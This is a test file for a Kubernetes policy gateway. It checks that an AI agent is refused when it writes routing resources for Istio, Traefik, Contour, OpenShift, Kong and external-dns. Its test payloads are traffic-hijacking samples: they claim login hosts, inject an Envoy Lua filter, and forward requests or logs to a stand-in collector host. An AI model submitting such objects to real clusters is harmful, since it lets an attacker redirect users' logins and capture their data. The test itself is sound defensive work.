// Routing resources of the controllers that are not Ingress or Gateway API — Istio's VirtualService,
// Gateway, ServiceEntry and EnvoyFilter, Traefik's IngressRoute and Middleware, Contour's HTTPProxy,
// OpenShift's Route, Kong's plugins, external-dns's DNSEndpoint — claim a host's traffic, send it
// elsewhere, or run code in every proxy, as an Ingress does (class 316). They are custom resources, and
// were read only for pod fields: an ordinary write (docs/security.md class 359). Raw requests through
// Gatehouse against the fake API server, an agent under the default policy.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultKubernetesPolicies } from '../src/policy/index.js';
import { startFakeKubeApi, type FakeKubeApi } from './testkit/kube-api.js';
import { startKubeTestGateway, type KubeTestGateway } from './testkit/kube-gateway.js';

const RULE = 'k8s-agents-no-traffic-redirects';

const obj = (apiVersion: string, kind: string, body: object) => ({
  apiVersion,
  kind,
  metadata: { name: 'takeover', namespace: 'default' },
  ...body,
});

describe('routing resources of other controllers', { timeout: 120_000 }, () => {
  let api: FakeKubeApi;
  let gw: KubeTestGateway;
  let agent: string;

  beforeAll(async () => {
    api = await startFakeKubeApi({ moreGroups: true });
    gw = await startKubeTestGateway({ api, policies: defaultKubernetesPolicies(['prod-k8s']) });
    agent = await gw.token({ subject: 'claude', agent: true });
  });

  afterAll(async () => {
    await gw?.stop();
    await api?.close();
  });

  const writes = () => api.seen.filter((s) => s.method !== 'GET').length;

  async function refusedRaw(method: string, target: string, body: unknown, type: string): Promise<string> {
    const first = await gw.refusedSend(agent, method, target, JSON.stringify(body), type);
    expect(first.status, first.body).toBe(403);
    expect(first.body).toContain(RULE);
    return first.body;
  }

  it('Istio, Traefik, Contour, OpenShift, Kong and external-dns routing objects are privilege', async () => {
    const before = writes();
    const vs = await refusedRaw(
      'POST',
      '/apis/networking.istio.io/v1/namespaces/default/virtualservices',
      obj('networking.istio.io/v1', 'VirtualService', {
        spec: {
          hosts: ['login.example.com'],
          gateways: ['istio-system/public'],
          http: [{ route: [{ destination: { host: 'mine.default.svc.cluster.local' } }] }],
        },
      }),
      'application/json',
    );
    expect(vs).toContain('spec of virtualservices.networking.istio.io');
    await refusedRaw(
      'POST',
      '/apis/networking.istio.io/v1alpha3/namespaces/istio-system/envoyfilters',
      obj('networking.istio.io/v1alpha3', 'EnvoyFilter', {
        spec: {
          configPatches: [
            { applyTo: 'HTTP_FILTER', patch: { operation: 'INSERT_BEFORE', value: { name: 'lua' } } },
          ],
        },
      }),
      'application/json',
    );
    await refusedRaw(
      'POST',
      '/apis/traefik.io/v1alpha1/namespaces/default/ingressroutes',
      obj('traefik.io/v1alpha1', 'IngressRoute', {
        spec: {
          routes: [
            { match: 'Host(`login.example.com`)', kind: 'Rule', services: [{ name: 'mine', port: 80 }] },
          ],
        },
      }),
      'application/json',
    );
    await refusedRaw(
      'POST',
      '/apis/traefik.io/v1alpha1/namespaces/default/middlewares',
      obj('traefik.io/v1alpha1', 'Middleware', {
        spec: { forwardAuth: { address: 'https://collector.example.net/auth' } },
      }),
      'application/json',
    );
    await refusedRaw(
      'POST',
      '/apis/projectcontour.io/v1/namespaces/default/httpproxies',
      obj('projectcontour.io/v1', 'HTTPProxy', {
        spec: {
          virtualhost: { fqdn: 'login.example.com' },
          routes: [{ services: [{ name: 'mine', port: 80 }] }],
        },
      }),
      'application/json',
    );
    await refusedRaw(
      'POST',
      '/apis/route.openshift.io/v1/namespaces/default/routes',
      obj('route.openshift.io/v1', 'Route', {
        spec: { host: 'login.example.com', to: { kind: 'Service', name: 'mine' } },
      }),
      'application/json',
    );
    // Kong's plugin has its configuration at the top, not under spec.
    const kong = await refusedRaw(
      'POST',
      '/apis/configuration.konghq.com/v1/namespaces/default/kongplugins',
      obj('configuration.konghq.com/v1', 'KongPlugin', {
        plugin: 'http-log',
        config: { http_endpoint: 'https://collector.example.net/log' },
      }),
      'application/json',
    );
    expect(kong).toContain('config');
    await refusedRaw(
      'POST',
      '/apis/externaldns.k8s.io/v1alpha1/namespaces/default/dnsendpoints',
      obj('externaldns.k8s.io/v1alpha1', 'DNSEndpoint', {
        spec: { endpoints: [{ dnsName: 'login.example.com', recordType: 'A', targets: ['203.0.113.7'] }] },
      }),
      'application/json',
    );
    // Patches of each form.
    await refusedRaw(
      'PATCH',
      '/apis/networking.istio.io/v1/namespaces/default/virtualservices/web',
      { spec: { hosts: ['pay.example.com'] } },
      'application/merge-patch+json',
    );
    const json = await refusedRaw(
      'PATCH',
      '/apis/route.openshift.io/v1/namespaces/default/routes/web',
      [{ op: 'replace', path: '/spec/host', value: 'pay.example.com' }],
      'application/json-patch+json',
    );
    expect(json).toContain('spec.host');
    await refusedRaw(
      'PATCH',
      '/apis/networking.istio.io/v1/namespaces/default/virtualservices/web',
      {
        apiVersion: 'networking.istio.io/v1',
        kind: 'VirtualService',
        metadata: { name: 'web' },
        spec: { hosts: ['*'] },
      },
      'application/apply-patch+yaml',
    );
    expect(writes()).toBe(before);
    // A label on one is not a claim: an ordinary write, held for review.
    const pending = gw.send(
      agent,
      'PATCH',
      '/apis/networking.istio.io/v1/namespaces/default/virtualservices/web',
      JSON.stringify({ metadata: { labels: { team: 'payments' } } }),
      'application/merge-patch+json',
    );
    const held = await gw.approver.next();
    expect(held.ctx.action.describe.categories).not.toContain('privilege');
    held.deny();
    await pending;
  });
});
